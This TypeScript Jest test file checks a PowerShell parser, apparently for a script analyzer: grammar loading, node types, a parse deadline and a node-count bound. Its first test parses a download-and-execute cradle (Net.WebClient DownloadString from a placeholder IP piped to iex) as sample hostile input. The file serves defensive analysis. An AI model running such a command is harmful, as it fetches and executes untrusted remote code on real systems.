// The real tree-sitter PowerShell grammar loads and parses under jest (web-tree-sitter's CJS
// build; the wasm bytes are read by us because jest's VM forbids the dynamic import the package
// would otherwise use), and hostile input is cut off by the parse deadline and the node bound.
import { copyTree, loadPowerShellParser } from '../../../src/analyzers/powershell/parser';

describe('PowerShell parser (web-tree-sitter + tree-sitter-powershell wasm)', () => {
  it("parses PowerShell into a syntax tree with the grammar's node types", async () => {
    const parser = await loadPowerShellParser();
    const tree = parser.parse("$c = (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'); iex $c", 1000);
    expect(tree).not.toBeNull();
    const root = copyTree(tree!, 10_000);
    tree!.delete();
    expect(root!.type).toBe('program');
    const types = new Set<string>();
    const stack = [root!];
    while (stack.length) {
      const n = stack.pop()!;
      types.add(n.type);
      stack.push(...n.children);
    }
    for (const t of ['command', 'command_name', 'invokation_expression', 'member_name', 'string_literal', 'parenthesized_expression'])
      expect(types).toContain(t);
  });

  it('loads once and is shared', async () => {
    expect(await loadPowerShellParser()).toBe(await loadPowerShellParser());
  });

  it('gives up on a pathological parse at the deadline instead of hanging', async () => {
    const parser = await loadPowerShellParser();
    // A null tree is the deadline's answer: a parse that ran to the end returns a tree.
    const tree = parser.parse('('.repeat(1 << 20), 300);
    expect(tree).toBeNull();
    // The parser is still usable afterwards.
    const ok = parser.parse("'a'+'b'", 1000);
    expect(ok).not.toBeNull();
    ok!.delete();
  });

  it('refuses to copy a tree past the node bound', async () => {
    const parser = await loadPowerShellParser();
    const tree = parser.parse(Array.from({ length: 2000 }, (_, i) => `$a${i} = ${i}`).join('\n'), 2000)!;
    expect(copyTree(tree, 1000)).toBeNull();
    expect(copyTree(tree, 1_000_000)).not.toBeNull();
    tree.delete();
  });
});
